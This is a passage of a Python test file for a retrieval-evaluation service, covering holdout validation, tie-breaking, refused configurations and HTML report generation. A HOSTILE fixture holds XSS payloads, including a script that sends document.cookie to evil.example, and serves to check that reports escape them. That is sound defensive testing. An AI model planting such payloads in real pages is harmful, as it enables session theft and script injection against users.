                stack,
                evaluator_pb2.ExperimentConfig(
                    name="chroma 250/125 against 250/0, held out",
                    question_set_id=question_set.question_set_id,
                    strategies=[grid],
                    retrieval=common_pb2.RetrievalOptions(top_k=TOP_K),
                    retrieval_only=True,
                    validation=evaluator_pb2.Validation(mode=evaluator_pb2.VALIDATION_MODE_HOLDOUT, seed=3),
                ),
            )
        ).experiment_id,
    )
    found = experiment.validation
    assert (found.metric, found.selection_questions, found.confirmation_questions) == ("recall", 138, 138)
    chosen_on = set(found.selection_question_ids)
    recall_of = {(r.run_key, r.question_id): r.metrics.recall for r in experiment.results}
    runs = [r.run_key for r in experiment.runs]
    questions = {r.question_id for r in experiment.results}

    def mean(run_key: str, ids) -> float:
        return sum(recall_of[(run_key, q)] for q in ids) / len(ids)

    # The winner rule (ADR 0080) chooses on the selection half: the leaders are the runs tied with the
    # best there that no other beats on recall, IoU or tokens sent; one of them is the winner.
    # Here the rule names one winner, and it is the run with the best mean on the selection half.
    assert list(found.leaders) == [found.winner_run_key] == [max(runs, key=lambda k: mean(k, chosen_on))]
    compared = stack.client().compare_experiments([chroma_run[1].experiment_id, experiment.experiment_id])
    assert compared.experiments[1].validation == found
    assert compared.experiments[0].validation.unavailable.startswith("fewer than two runs")
    managerial = report_html(stack, experiment.experiment_id, evaluator_pb2.REPORT_VIEW_MANAGERIAL)
    head = found.scores[0]
    assert head.selection_mean == pytest.approx(mean(found.winner_run_key, chosen_on))
    assert head.confirmation_mean == pytest.approx(mean(found.winner_run_key, questions - chosen_on))
    assert head.ci_low < head.confirmation_mean < head.ci_high
    iou = next(s for s in found.scores if s.metric == "iou")
    assert 0 < iou.confirmation_mean <= 1 and iou.ci_low <= iou.confirmation_mean <= iou.ci_high
    assert f"{found.winner_run_key} was chosen on 138 of the 276 questions (seed 3)" in managerial
    technical = report_html(stack, experiment.experiment_id, evaluator_pb2.REPORT_VIEW_TECHNICAL)
    assert "where it was confirmed (95% interval)" in technical


def test_an_experiment_run_again_on_duplicated_passages_gives_identical_per_question_results(stack):
    """ADR 0044: the same clause in two contracts embeds to the same vectors; which
    copy ranks first follows the documented rule, not the order the store holds
    them in, for dense and hybrid retrieval alike."""
    clause = (
        "Either party may terminate this agreement by giving ninety days written notice to the other party. "
        "Termination does not release either party from obligations that accrued before the notice. "
    ) * 3
    texts = {
        name: clause + f"\n\n{name} schedule: the {tail} apply to this contract only.\n"
        for name, tail in (("Alder", "delivery dates in annex one"), ("Birch", "prices in annex two"))
    }
    documents = {name: upload(stack, f"{name.lower()}-contract-ties.md", text.encode()) for name, text in texts.items()}
    alder = documents["Alder"].document_id
    start = full_text(stack, alder).index("Termination does not release")
    excerpt = "Termination does not release either party from obligations that accrued before the notice."
    questions = [
        evaluator_pb2.Question(
            text=text,
            references=[
                evaluator_pb2.Reference(
                    document_id=alder, start_char=start, end_char=start + len(excerpt), content=excerpt
                )
            ],
        )
        for text in (
            "How much notice ends the agreement?",
            "Does termination release accrued obligations?",
            "What happens to obligations after notice?",
        )
    ]
    question_set = evaluator(stack).CreateQuestionSet(
        evaluator_pb2.CreateQuestionSetRequest(name="duplicated clauses", questions=questions), timeout=60
    )
    doc_ids = [d.document_id for d in documents.values()]
    retriever = channels.retriever(stack.addresses["retriever"])

    def results(hybrid: bool) -> list[tuple]:
        experiment = finished(
            run(
                stack,
                evaluator_pb2.ExperimentConfig(
                    name=f"ties {'hybrid' if hybrid else 'dense'}",
                    question_set_id=question_set.question_set_id,
                    strategies=[fixed(24, 0)],
                    retrieval_only=True,
                    retrieval=common_pb2.RetrievalOptions(
                        top_k=2, hybrid=hybrid, filter=common_pb2.RetrievalFilter(document_ids=doc_ids)
                    ),
                ),
            )
        )
        found = get(stack, experiment.experiment_id).results
        return sorted(
            (
                r.question,
                [(c.chunk.document_id, c.chunk.chunk_index, round(c.score, 6)) for c in r.retrieved_chunks],
                r.metrics.recall,
                r.metrics.precision,
                r.metrics.iou,
            )
            for r in found
        )

    first = {hybrid: results(hybrid) for hybrid in (False, True)}
    tied = [hits for _, hits, *_ in first[False] if len({score for *_, score in hits}) == 1]
    assert tied and all({doc for doc, *_ in hits} == set(doc_ids) for hits in tied)  # both copies, tied
    for document_id in reversed(doc_ids):  # each document's set indexed again: the store's order changes
        retriever.DeleteIndexedSet(
            retriever_pb2.DeleteIndexedSetRequest(
                key=retriever_pb2.IndexedSetKey(
                    embedding_model=Settings().embedding_model,
                    document_id=document_id,
                    strategy="fixed_size",
                    config_id=fixed_config({"chunk_size": 24, "chunk_overlap": 0}),
                )
            ),
            timeout=30,
        )
        assert {hybrid: results(hybrid) for hybrid in (False, True)} == first


def test_bad_experiments_are_refused_with_a_reason(stack, small_set, chroma_run, tmp_path):
    stub = evaluator(stack)
    cases = [
        (
            evaluator_pb2.ExperimentConfig(
                question_set_id=small_set.question_set_id, strategies=[evaluator_pb2.StrategyGrid(strategy="magic")]
            ),
            grpc.StatusCode.INVALID_ARGUMENT,
            "unknown strategy",
        ),
        (
            evaluator_pb2.ExperimentConfig(question_set_id=small_set.question_set_id, strategies=[fixed(chunk_size=2)]),
            grpc.StatusCode.INVALID_ARGUMENT,
            "chunk_size",
        ),
        (
            evaluator_pb2.ExperimentConfig(
                question_set_id=small_set.question_set_id,
                strategies=[fixed()],
                retrieval=common_pb2.RetrievalOptions(top_k=500),
            ),
            grpc.StatusCode.INVALID_ARGUMENT,
            "top_k",
        ),
        # The retriever's own limits, checked before anything runs (not on every question).
        (
            evaluator_pb2.ExperimentConfig(
                question_set_id=small_set.question_set_id,
                strategies=[fixed()],
                retrieval=common_pb2.RetrievalOptions(window=21),
            ),
            grpc.StatusCode.INVALID_ARGUMENT,
            "window must be between 0 and 20",
        ),
        (
            evaluator_pb2.ExperimentConfig(
                question_set_id=small_set.question_set_id,
                strategies=[fixed()],
                retrieval=common_pb2.RetrievalOptions(recency_lambda=101),
            ),
            grpc.StatusCode.INVALID_ARGUMENT,
            "recency_lambda",
        ),
        (
            evaluator_pb2.ExperimentConfig(
                question_set_id=small_set.question_set_id,
                strategies=[fixed()],
                retrieval=common_pb2.RetrievalOptions(strategy="fixed_size"),
            ),
            grpc.StatusCode.INVALID_ARGUMENT,
            "grids name the strategies",
        ),
        (
            evaluator_pb2.ExperimentConfig(question_set_id="no-such-set", strategies=[fixed()]),
            grpc.StatusCode.NOT_FOUND,
            "no-such-set",
        ),
    ]
    for config, code, words in cases:
        got, message = status_of(lambda: run(stack, config))
        assert got == code and words in message, message
    got, _ = status_of(lambda: stub.GetReport(evaluator_pb2.GetReportRequest(experiment_id="nope"), timeout=30))
    assert got == grpc.StatusCode.NOT_FOUND
    got, _ = status_of(lambda: stack.client().write_report("nope", tmp_path))
    assert got == grpc.StatusCode.NOT_FOUND and list(tmp_path.iterdir()) == []
    got, message = status_of(lambda: stack.client().resume_experiment(chroma_run[1].experiment_id))
    assert got == grpc.StatusCode.FAILED_PRECONDITION and "succeeded" in message


# -- reports ------------------------------------------------------------------------------

HOSTILE = """# Totally normal notes <script>alert('title')</script>

Quarterly figures are <script>document.location='https://evil.example/'+document.cookie</script> fine.
An image <img src=x onerror="alert(1)"> and a link <a href="javascript:alert(2)">click</a> sit here.
Closing tricks: </textarea></pre></details></style></title><svg onload=alert(3)><iframe src="javascript:alert(4)"></iframe>
A comment <!-- hidden --> and <body onload=alert(5)> and <div style="background:url(javascript:alert(6))">x</div>.
Attribute break-out: " onmouseover="alert(7)" ' onfocus='alert(8)' and &lt;already escaped&gt; text.
<math><mi xlink:href="javascript:alert(9)">m</mi></math> <object data="javascript:alert(10)"></object>
"""
OUR_TAGS = {
    "html",
    "head",
    "meta",
    "title",
    "style",
    "body",
    "header",
    "h1",
    "h2",
    "h3",
    "h4",
    "h5",
    "p",
    "nav",
    "a",
    "section",
    "span",
    "strong",
    "table",
    "thead",
    "tbody",
    "tr",
    "th",
    "td",
    "figure",
    "details",
    "summary",
    "div",
    "pre",
    "ol",
    "ul",
    "li",
    "br",
    "q",
    "i",
    "small",
    "b",
    # matplotlib's SVG (HTMLParser lowercases clipPath)
    "svg",
    "defs",
    "g",
    "path",
    "use",
    "clippath",
    "rect",
    "text",
}


class Elements(HTMLParser):
    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, list]] = []
        self.comments: list[str] = []

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, attrs))

    def handle_comment(self, data):
        self.comments.append(data)


def test_a_report_keeps_every_trick_of_a_hostile_document_dead(stack, tmp_path):
    document = upload(stack, "hostile.md", HOSTILE.encode(), collection="report-test")
    questions = "\n".join(
        json.dumps(q)
        for q in [
            {
                "question": "What are the <script>alert('q')</script> quarterly figures?",
                "references": [{"document_id": document.document_id, "content": '<img src=x onerror="alert(1)">'}],
            },
            {
                "question": "Which link is there?",
                "expected_answer": '<a href="javascript:alert(2)">click</a>',
                "references": [{"document_id": document.document_id, "content": "</textarea></pre></details>"}],
            },
        ]
    )
    question_set = import_set(stack, "hostile.jsonl", questions.encode())
    config = evaluator_pb2.ExperimentConfig(
        name="<script>alert('name')</script>",
        question_set_id=question_set.question_set_id,
        strategies=[fixed(chunk_size=24, overlap=0)],
        retrieval=common_pb2.RetrievalOptions(top_k=3, neighbor_prev=1),
    )
    experiment = finished(run(stack, config))
    report, pieces = report_of(stack, experiment.experiment_id)
    assert report.file_name.endswith(".html") and "<" not in report.file_name
    assert (report.experiment_id, report.content_type, report.view) == (
        experiment.experiment_id,
        "text/html; charset=utf-8",
        evaluator_pb2.REPORT_VIEW_BOTH,
    )
    # The stack's evaluator sends 16 KiB pieces (tests/conftest.py): the file comes in two or more, each full
    # but the last, and the client writes exactly their bytes.
    assert len(pieces) >= 2 and {len(p) for p in pieces[:-1]} == {PIECE} and 0 < len(pieces[-1]) <= PIECE
    saved = stack.client().write_report(experiment.experiment_id, tmp_path)
    assert saved.path == tmp_path / report.file_name and saved.path.read_bytes() == b"".join(pieces)
    assert saved.pieces == len(pieces)
    html = b"".join(pieces).decode()
    parser = Elements()
    parser.feed(html)
    tags = [t for t, _ in parser.tags]
    assert set(tags) <= OUR_TAGS, set(tags) - OUR_TAGS
    assert "script" not in tags and not parser.comments
    for tag, attrs in parser.tags:
        for name, value in attrs:
            assert not name.startswith("on"), (tag, name)
            assert "javascript:" not in (value or "").lower(), (tag, name, value)
            if name == "href":
                assert value.startswith("#"), value
    assert tags.count("style") == 1 and tags.count("title") == 1 + tags.count("svg")
    # The text is there, escaped: a reader sees the tricks as text.
    assert "&lt;script&gt;" in html and "onerror=&#34;alert(1)&#34;" in html
    assert "Content-Security-Policy" in html
    # The views can be asked for one at a time.
    managerial = report_html(stack, experiment.experiment_id, evaluator_pb2.REPORT_VIEW_MANAGERIAL)
    technical = report_html(stack, experiment.experiment_id, evaluator_pb2.REPORT_VIEW_TECHNICAL)
    assert 'id="managerial"' in managerial and 'id="technical"' not in managerial
    assert 'id="technical"' in technical and "hits in score order" in technical and "<svg" not in technical
    assert "exact: every candidate scored, never an approximate HNSW graph" in technical
    # Every chunk a result links to has its anchor in the documents' text under "Chunk texts" (ADR 0068).
    links = set(re.findall(r'href="#(t\d+)"', technical))
    assert links and links == set(re.findall(r'<a id="(t\d+)" data-chunk="', technical))


def test_an_extractive_answer_reads_as_sentences_not_markup():
    from support.providers import HashedProvider

    from services.evaluator.judging.answers import SentenceEmbeddings, extractive_answer

    def retrieved(content: str) -> common_pb2.RetrievedChunk:
        return common_pb2.RetrievedChunk(chunk=common_pb2.Chunk(content=content, language="en"))

    context = [
        retrieved(
            "## Fog horns and fog\n\nFog horns warned\nships in fog. Keepers wound the clock.\n\n"
            "Fog horns sounded every minute in fog."
        ),
        retrieved("|---|---|\n\nRadio beacons replaced fog horns.\n\n| tide | hour |"),
    ]
    answer = extractive_answer(HashedProvider(), "fog horns in fog", context, SentenceEmbeddings(), count=3)
    # The heading and the bare table rule are not answers; the hard line break reads as a space; the
    # sentence that does not follow the first in its chunk comes after " … ".
    assert answer.extractive and answer.text == (
        "Fog horns warned ships in fog. … Fog horns sounded every minute in fog. … Radio beacons replaced fog horns."
    )


def test_experiments_and_answers_always_ask_for_exact_search():
    """Scores and the Query page never depend on an approximate HNSW graph (ADR 0035);
    the retrieval options go through as set."""
    from services.evaluator.peers import retrieve_request

    options = common_pb2.RetrievalOptions(
        strategy="fixed_size",
        config_id="0123456789abcdef",
        top_k=3,
        neighbor_prev=1,
        neighbor_next=2,
        window=2,
        hybrid=True,
        recency_lambda=0.1,
        embedding_model="m",
        filter=common_pb2.RetrievalFilter(document_ids=["doc-1"], languages=["fr"]),
    )
    request = retrieve_request("Où est le phare ?", options)
    assert request.exact and request.query == "Où est le phare ?" and request.options == options
